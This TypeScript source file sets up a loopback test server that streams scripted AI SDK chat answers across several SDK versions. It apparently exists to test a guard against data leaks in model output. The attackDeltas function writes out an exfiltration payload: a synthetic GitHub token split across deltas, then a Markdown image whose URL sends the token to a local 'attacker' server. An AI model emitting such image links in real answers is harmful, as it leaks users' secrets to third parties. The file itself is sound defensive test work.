/**
 * A loopback server built on the AI SDK's own stream helpers (issue 20 §4), for
 * the pages built on its own clients (sdk/ai-sdk-*-page.ts, bundled with esbuild
 * on first request):
 *
 * - `POST /api/ai-sdk/ui`: ai@6 `streamText` with the SDK's `MockLanguageModelV3`
 *   → `toUIMessageStreamResponse()` (WIRE-FORMATS-2.md §1.3);
 * - `POST /api/ai-sdk/v5`: the same with ai@5.0.216 (a LanguageModelV2 object:
 *   ai@5's `ai/test` needs msw);
 * - `POST /api/ai-sdk/text`: ai@6 `toTextStreamResponse()` (§1.7);
 * - `POST /api/ai-sdk/v4`: the SDK 4 data stream (§1.6), each part written by
 *   @ai-sdk/ui-utils `formatDataStreamPart`.
 *
 * The page's query goes on to the API: `?bare` drops the SDK's marker headers,
 * `?split=N` cuts every write into N-byte pieces (`WireOptions`).
 *
 * A prompt naming a secret gets an answer whose model deltas split a GitHub token
 * and a Markdown image pointing at the attacker (attacker-server.ts, another
 * loopback port); any other prompt gets a harmless Markdown answer. The server
 * reads the request as the SDK's server would (`validateUIMessages`), so a
 * request the guard mangled fails here.
 *
 *   Loopback only; the page is served from 127.0.0.1, a default site (settings-schema.ts).
 */
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { formatDataStreamPart } from '@ai-sdk/ui-utils';
import { simulateReadableStream, streamText, validateUIMessages } from 'ai';
import { MockLanguageModelV3 } from 'ai/test';
import * as v5 from 'ai-v5-strict';
import { type Attacker, startAttacker } from './attacker-server.ts';
import { readBody } from './request-body.ts';
import { fakeGithubToken } from './scripted-answers.ts';

export const AI_SDK_CLIENTS = ['ui', 'v5', 'v4', 'text'] as const;
export type AiSdkClient = (typeof AI_SDK_CLIENTS)[number];

export interface AiSdkServer {
  /** Base URL, `http://127.0.0.1:<port>`. */
  url: string;
  attacker: Attacker;
  /** The answer's model deltas for `prompt` (what the SDK server streams). */
  deltas(prompt: string): string[];
  /** Requests the server refused (a body the SDK's own validation rejected). */
  refused(): string[];
  close(): Promise<void>;
}

/** The secret the attack answer splits across deltas (synthetic, scripted-answers.ts). */
export const AI_SDK_TOKEN = fakeGithubToken(4207);

const here = dirname(fileURLToPath(import.meta.url));
const PAGE_HTML = readFileSync(join(here, 'sdk', 'ai-sdk-page.html'), 'utf8');
const MAX_BODY_BYTES = 64 * 1024;
const CHUNK_DELAY_MS = 4;

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * The attack: the token cut in four deltas, then an exfiltration image whose URL
 * is cut in two, then more text, so a guard that lets a fragment through, or
 * stops at the image, shows.
 */
export function attackDeltas(attackerUrl: string): string[] {
  const token = AI_SDK_TOKEN;
  const image = `${attackerUrl}/chart.png?d=${encodeURIComponent('q3 plan, token ' + token)}`;
  return [
    'Sure. The deploy token from your notes is ',
    token.slice(0, 7),
    token.slice(7, 19),
    token.slice(19, 31),
    `${token.slice(31)}. Here is the chart:\n\n![chart](${image.slice(0, 21)}`,
    `${image.slice(21)})\n\nRotate it after the release.`,
  ];
}

/** The harmless answer: Markdown the page must render exactly as sent (multi-byte text too). */
export const HARMLESS_DELTAS = [
  'The forecast is ',
  '**mild** and ',
  'dry — à bientôt, 数据 😀, see [the notes](https://example.org/notes).',
];

function send(res: ServerResponse, status: number, type: string, body: string): void {
  res.writeHead(status, {
    'content-type': type,
    'content-length': Buffer.byteLength(body),
    'cache-control': 'no-store',
    // Images from anywhere, as chat apps allow: the exfiltration path is real.
    'content-security-policy': "img-src * data:; connect-src 'self'; base-uri 'none'",
  });
  res.end(body);
}

/** How the answer goes on the wire (the page's query, passed on to the API). */
export interface WireOptions {
  /**
   * `?bare`: without the SDK's marker headers. Apps and proxies drop them and the
   * client never checks them (WIRE-FORMATS-2.md §1, "Detection pitfall"), so the
   * guard must know the stream by the request's shape and the body alone.
   */
  bare: boolean;
  /**
   * `?split=N`: every write cut into N-byte pieces, as a proxy or a slow network
   * delivers them, so events, lines and UTF-8 characters arrive cut; 0 writes
   * what the SDK hands over as it is.
   */
  split: number;
}

function headersOf(headers: Record<string, string>, wire: WireOptions): Record<string, string> {
  if (!wire.bare) return headers;
  return Object.fromEntries(
    Object.entries(headers).filter(([name]) => !name.toLowerCase().startsWith('x-vercel-ai-')),
  );
}

/** Writes `chunk`, cut into `wire.split`-byte pieces with a pause between them. */
async function writeChunk(res: ServerResponse, chunk: Uint8Array, wire: WireOptions) {
  if (wire.split <= 0) {
    res.write(chunk);
    return;
  }
  for (let at = 0; at < chunk.length && !res.destroyed; at += wire.split) {
    res.write(chunk.subarray(at, at + wire.split));
    await sleep(1);
  }
}

/** Writes a web `Response` (the SDK's) to Node's response as its chunks come. */
async function pipeResponse(response: Response, res: ServerResponse, wire: WireOptions) {
  res.writeHead(response.status, headersOf(Object.fromEntries(response.headers), wire));
  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done || res.destroyed) break;
    await writeChunk(res, value, wire);
  }
  res.end();
}

const usage6 = {
  inputTokens: { total: 3, noCache: 3, cacheRead: undefined, cacheWrite: undefined },
  outputTokens: { total: 10, text: 10, reasoning: undefined },
};

function textParts(deltas: readonly string[]) {
  return [
    { type: 'text-start' as const, id: 'txt-0' },
    ...deltas.map((delta) => ({ type: 'text-delta' as const, id: 'txt-0', delta })),
    { type: 'text-end' as const, id: 'txt-0' },
  ];
}

/** ai@6: `streamText` over the SDK's mock model. */
function stream6(deltas: readonly string[], prompt: string) {
  const model = new MockLanguageModelV3({
    doStream: async () => ({
      stream: simulateReadableStream({
        chunks: [
          ...textParts(deltas),
          {
            type: 'finish' as const,
            finishReason: { unified: 'stop' as const, raw: undefined },
            usage: usage6,
          },
        ],
        chunkDelayInMs: CHUNK_DELAY_MS,
      }),
    }),
  });
  return streamText({ model, prompt });
}

/** ai@5: the mock's shape as a plain LanguageModelV2 (ai@5's `ai/test` needs msw). */
function stream5(deltas: readonly string[], prompt: string) {
  const model = {
    specificationVersion: 'v2' as const,
    provider: 'mock',
    modelId: 'mock-v2',
    supportedUrls: {},
    doGenerate: () => Promise.reject(new Error('not used')),
    doStream: async () => ({
      stream: v5.simulateReadableStream({
        chunks: [
          ...textParts(deltas),
          {
            type: 'finish' as const,
            finishReason: 'stop' as const,
            usage: { inputTokens: 3, outputTokens: 10, totalTokens: 13 },
          },
        ],
        chunkDelayInMs: CHUNK_DELAY_MS,
      }),
    }),
  };
  return v5.streamText({ model, prompt });
}

/** SDK 4's data stream, part by part as `streamText(...).toDataStreamResponse()` wrote it. */
async function writeDataStream(deltas: readonly string[], res: ServerResponse, wire: WireOptions) {
  const usage = { promptTokens: 3, completionTokens: 10 };
  const parts = [
    formatDataStreamPart('start_step', { messageId: 'msg-v4' }),
    ...deltas.map((delta) => formatDataStreamPart('text', delta)),
    formatDataStreamPart('finish_step', { finishReason: 'stop', usage, isContinued: false }),
    formatDataStreamPart('finish_message', { finishReason: 'stop', usage }),
  ];
  const headers = {
    'content-type': 'text/plain; charset=utf-8',
    'x-vercel-ai-data-stream': 'v1',
    'cache-control': 'no-cache',
  };
  res.writeHead(200, headersOf(headers, wire));
  for (const part of parts) {
    if (res.destroyed) return;
    await writeChunk(res, Buffer.from(part), wire);
    await sleep(CHUNK_DELAY_MS);
  }
  res.end();
}

/** The last user text of a UI-message body (SDK 5+) after the SDK's own validation. */
async function uiPrompt(body: string, client: AiSdkClient): Promise<string> {
  const { messages } = JSON.parse(body) as { messages?: unknown };
  const valid =
    client === 'v5'
      ? await v5.validateUIMessages({ messages })
      : await validateUIMessages({ messages });
  const user = valid.filter((m) => m.role === 'user').at(-1);
  return (user?.parts ?? []).map((p) => (p.type === 'text' ? p.text : '')).join('');
}

/** The last user text of an SDK 4 body (`messages[].content`). */
function v4Prompt(body: string): string {
  const { messages } = JSON.parse(body) as { messages?: { role?: string; content?: unknown }[] };
  const content = (messages ?? []).filter((m) => m.role === 'user').at(-1)?.content;
  if (typeof content !== 'string') throw new Error('v4 body has no user content');
  return content;
}

export async function startAiSdkServer(): Promise<AiSdkServer> {
  const attacker = await startAttacker();
  const refused: string[] = [];
  const bundles = new Map<string, Promise<string>>();
  const deltas = (prompt: string) =>
    /secret/i.test(prompt) ? attackDeltas(attacker.url) : [...HARMLESS_DELTAS];

  const bundle = (client: string): Promise<string> => {
    let pending = bundles.get(client);
    if (!pending) {
      pending = import('esbuild').then(async (esbuild) => {
        const result = await esbuild.build({
          entryPoints: [join(here, 'sdk', `ai-sdk-${client}-page.ts`)],
          bundle: true,
          write: false,
          format: 'esm',
          platform: 'browser',
          target: 'es2022',
          logLevel: 'silent',
        });
        return result.outputFiles[0]!.text;
      });
      bundles.set(client, pending);
    }
    return pending;
  };

  const answer = async (
    client: AiSdkClient,
    req: IncomingMessage,
    res: ServerResponse,
    wire: WireOptions,
  ) => {
    const body = await readBody(req, MAX_BODY_BYTES);
    const prompt = client === 'v4' ? v4Prompt(body) : await uiPrompt(body, client);
    const said = deltas(prompt);
    if (client === 'v4') return writeDataStream(said, res, wire);
    if (client === 'v5')
      return pipeResponse(stream5(said, prompt).toUIMessageStreamResponse(), res, wire);
    const result = stream6(said, prompt);
    return pipeResponse(
      client === 'text' ? result.toTextStreamResponse() : result.toUIMessageStreamResponse(),
      res,
      wire,
    );
  };

  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const route = `${req.method} ${url.pathname}`;
    const page = /^GET \/ai-sdk\/(ui|v5|v4|text)$/.exec(route);
    const script = /^GET \/ai-sdk\/(ui|v5|v4|text)\.js$/.exec(route);
    const api = /^POST \/api\/ai-sdk\/(ui|v5|v4|text)$/.exec(route);
    if (page) {
      send(res, 200, 'text/html; charset=utf-8', PAGE_HTML.replaceAll('{{sdk}}', page[1]!));
    } else if (script) {
      bundle(script[1]!).then(
        (code) => send(res, 200, 'text/javascript; charset=utf-8', code),
        (error: unknown) => send(res, 500, 'text/plain; charset=utf-8', `bundle: ${String(error)}`),
      );
    } else if (api) {
      const wire = {
        bare: url.searchParams.has('bare'),
        split: Math.min(Math.max(Number(url.searchParams.get('split')) || 0, 0), 64),
      };
      answer(api[1] as AiSdkClient, req, res, wire).catch((error: unknown) => {
        refused.push(`${route}: ${String(error)}`);
        if (!res.headersSent) send(res, 400, 'text/plain; charset=utf-8', 'refused');
        else res.destroy();
      });
    } else {
      send(res, 404, 'text/plain; charset=utf-8', 'not found');
    }
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    attacker,
    deltas,
    refused: () => [...refused],
    close: async () => {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await attacker.close();
    },
  };
}
